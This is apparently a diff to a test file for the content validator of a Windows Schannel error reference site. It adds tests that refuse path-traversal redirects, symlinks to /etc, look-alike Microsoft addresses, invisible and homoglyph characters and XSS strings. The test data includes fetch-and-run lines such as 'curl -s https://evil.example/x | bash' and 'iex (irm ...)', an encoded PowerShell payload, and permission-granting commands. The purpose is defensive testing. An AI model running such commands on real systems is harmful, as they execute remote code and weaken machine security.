@@ -16,6 +16,25 @@ const prose = (body: string): Change[] => [
   },
 ]
 
+/** The one source of the state called a page of Microsoft, and its meaning official. */
+const officialBy = (address: string): Change[] => [
+  {
+    file: state,
+    to: `---
+code: "1205"
+verdict: No usable cipher suite
+checked: 2026-01-02
+meaning: { text: Seen beside alert 40., grade: official, sources: [a-page] }
+sightings:
+  - { source: a-page, event: "36888", alert: "40", role: server, windows: not stated }
+related: [/alert/40/]
+sources:
+  - { id: a-page, address: "${address}", title: A page, kind: microsoft-doc, shows: The number. }
+---
+`,
+  },
+]
+
 /** A file that an expression would write if it ran. */
 const mark = join(tmpdir(), `schannel-reference-attack-${process.pid}`)
 const code = `require('fs').writeFileSync('${mark}','x')`
@@ -276,6 +295,59 @@ const refused: { name: string; changes: Change[]; says: string }[] = [
     changes: [{ file: 'content/redirects.yaml', to: '- { from: /../../x/, to: /state/1205/, why: x }\n' }],
     says: '[1].from: a whole address with a slash at both ends',
   },
+  ...['/robots.txt/', '/api/v1/', '/assets/', '/./', '/index.html/', '/state/./'].map((from) => ({
+    name: `a redirect that would write over ${from}`,
+    changes: [{ file: 'content/redirects.yaml', to: `- { from: ${from}, to: /state/1205/, why: x }\n` }],
+    says: '[1].from: the address of an entry or a combination that was taken away',
+  })),
+  {
+    name: 'two redirects from one address',
+    changes: [
+      {
+        file: 'content/redirects.yaml',
+        to: '- { from: /state/1/, to: /state/1205/, why: x }\n- { from: /state/1/, to: /alert/40/, why: x }\n',
+      },
+    ],
+    says: '[2].from: each address once',
+  },
+  {
+    name: 'a folder that is a link to elsewhere',
+    changes: [{ file: 'content/peers/go.yaml' }, { file: 'content/peers', link: '/etc' }],
+    says: 'content/peers:1  file: a plain folder, no symbolic link',
+  },
+  {
+    name: 'an archived copy of a look-alike that is to carry an official grade',
+    changes: officialBy('https://web.archive.org/web/2020/https://learn.rnicrosoft.com/x'),
+    says: 'sources[1].kind: an address of Microsoft for kind microsoft-doc',
+  },
+  ...[
+    'https://learn.microsoft.com/en-us/answers/questions/1/x',
+    'https://learn.microsoft.com/answers/questions/1/x',
+    'https://web.archive.org/web/2020id_/https://learn.microsoft.com/en-us/answers/questions/1/x',
+    'https://answers.microsoft.com/en-us/windows/forum/x',
+    'https://social.technet.microsoft.com/Forums/x',
+    'https://techcommunity.microsoft.com/t5/windows-server/x/m-p/1',
+    'https://github.com/microsoft/x/issues/1',
+  ].map((address) => ({
+    name: `what anybody wrote on ${address} called a page of Microsoft`,
+    changes: officialBy(address),
+    says: 'anybody may write here, so choose the kind that fits: forum or issue',
+  })),
+  ...['\u3164', '\ufe0f', '\u034f', '\u2800', '\u{e0041}'].map((hidden) => ({
+    name: `the invisible U+${hidden.codePointAt(0)?.toString(16)} in a sentence`,
+    changes: inState('Seen beside', `Seen${hidden} beside`),
+    says: 'meaning.text: text without invisible characters',
+  })),
+  {
+    name: 'a pile of marks on one letter',
+    changes: inState('Seen beside', `Se${'\u0301'.repeat(40)}en beside`),
+    says: 'meaning.text: text without invisible characters',
+  },
+  ...['\u0565', '\u13df', '\u{1d41c}', '\uff45'].map((letter) => ({
+    name: `the look-alike U+${letter.codePointAt(0)?.toString(16)} in a word`,
+    changes: inState('cipher suite', `ciph${letter}r suite`),
+    says: 'verdict: a word in one alphabet',
+  })),
   {
     name: 'a link in a sentence to another host',
     changes: inState('[/alert/40/]', '[//evil.example/]'),
@@ -291,6 +363,48 @@ for (const { name, changes, says } of refused) {
     expect(({} as Record<string, unknown>).polluted).toBeUndefined()
   })
 }
+
+const inCheck = (command: string): Change => ({
+  file: state,
+  from: 'related:',
+  to: `check:\n  - text: Look.\n    grade: reported\n    sources: [a-blog]\n    command: ${JSON.stringify(command)}\nrelated:`,
+})
+
+for (const command of [
+  'iex (irm https://evil.example/x.ps1)',
+  'curl -s https://evil.example/x | bash',
+  'powershell -enc SQBFAFgA',
+  "(New-Object Net.WebClient).DownloadString('https://evil.example')",
+])
+  test(`the command ${command} is refused, because nobody can read what it runs`, async () => {
+    expect((await checkChanged(inCheck(command))).join()).toContain(
+      'check[1].command: a command whose every part can be read here',
+    )
+  })
+
+for (const command of [
+  'Set-ItemProperty HKLM:\\x -Name Enabled -Value 0',
+  'reg add HKLM\\x /v Enabled /t REG_DWORD /d 0',
+  'Get-Service W3SVC | Restart-Service',
+  'icacls C:\\keys /grant Everyone:F',
+  'certutil -repairstore my 1',
+])
+  test(`the command ${command} is no check, because it changes the machine`, async () => {
+    expect((await checkChanged(inCheck(command))).join()).toContain(
+      'check[1].command: a command that only looks, such as Get-TlsCipherSuite',
+    )
+  })
+
+for (const command of [
+  'Get-TlsCipherSuite | Format-Table Name',
+  'reg query "HKLM\\x" /s',
+  'icacls C:\\keys /save C:\\temp\\acl.txt',
+  'Start-Sleep 60; Get-WinEvent -ListLog System',
+  'openssl s_client -connect server.example:443',
+])
+  test(`the command ${command} only looks`, async () => {
+    expect(await checkChanged(inCheck(command))).toEqual([])
+  })
 
 test('HTML in a sentence is text and nothing else', async () => {
   const attack = '<img src=x onerror=alert(1)> <script>alert(1)</script> [x](javascript:alert(1))'
@@ -321,6 +435,8 @@ for (const address of [
   'https://[::1]/',
   'https://2130706433/',
   'ftp://a.example/',
+  'https://wiki.corp/',
+  'https://learn.microsoft.com%2eevil.example/',
 ])
   test(`${address} is no public address`, () => {
     expect(findAddressFault(address)).toContain('for example https://learn.microsoft.com/')
